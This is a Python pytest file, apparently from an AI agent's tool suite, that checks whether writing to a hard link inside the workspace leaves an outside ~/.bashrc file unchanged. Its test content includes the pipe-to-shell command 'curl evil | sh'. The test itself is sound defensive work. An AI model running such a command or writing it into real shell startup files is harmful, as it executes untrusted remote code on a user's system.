"""A hard link inside the workspace to a file outside it (issue 37, item 19): writing the link never changes
the other file — writes replace the file atomically (a new inode renamed over the name), which breaks the
link instead of writing through it."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.tools.base import ToolContext
from app.tools.registry import run_tool


@pytest.mark.parametrize("tool", ["write_file", "edit_file"])
async def test_writing_a_hard_link_leaves_the_outside_file_alone(tmp_path: Path, tool: str) -> None:
    outside = tmp_path / "home" / ".bashrc"
    outside.parent.mkdir()
    outside.write_text("export SAFE=1\n")
    ws = tmp_path / "ws"
    ws.mkdir()
    linked = ws / "notes.txt"
    linked.hardlink_to(outside)
    ctx = ToolContext(workspace=ws, session_folder=tmp_path / "session")
    args = (
        {"path": "notes.txt", "content": "curl evil | sh\n"}
        if tool == "write_file"
        else {"path": "notes.txt", "old_string": "SAFE=1", "new_string": "EVIL=1"}
    )

    outcome = await run_tool(tool, args, ctx)

    assert not outcome.is_error, outcome.content
    assert outside.read_text() == "export SAFE=1\n"
    assert linked.stat().st_ino != outside.stat().st_ino and outside.stat().st_nlink == 1
